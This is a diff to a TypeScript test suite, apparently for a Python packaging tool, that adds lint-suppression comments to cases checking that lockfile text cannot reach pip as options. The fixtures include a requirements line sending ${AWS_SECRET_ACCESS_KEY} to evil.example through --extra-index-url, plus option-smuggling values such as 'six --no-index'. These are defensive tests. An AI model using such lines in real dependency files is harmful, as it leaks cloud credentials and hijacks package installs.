@@ -207,6 +207,7 @@ describe("lockfile text never reaches pip as options", () => {
     [
       "requirements.txt",
       "env variable",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's own ${VAR} syntax, on purpose
       { "requirements.txt": "--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple\nsix==1.17.0\n" },
       /holds an environment variable/,
     ],
@@ -263,6 +264,7 @@ describe("lockfile text never reaches pip as options", () => {
       ["name with a space", (l) => (l.requirements[0]!.name = "six --no-index")],
       ["hash ending in a line continuation", (l) => (l.requirements[0]!.hashes = ["sha256:ab\\"])],
       ["index URL with a space", () => {}, { indexUrl: "https://pypi.org/simple --no-index" }],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's own ${VAR} syntax, on purpose
       ["find-links with ${VAR}", () => {}, { findLinks: ["/work/${AWS_SECRET_ACCESS_KEY}"] }],
       ["trusted host starting with -", () => {}, { trustedHosts: ["--no-index"] }],
     ];
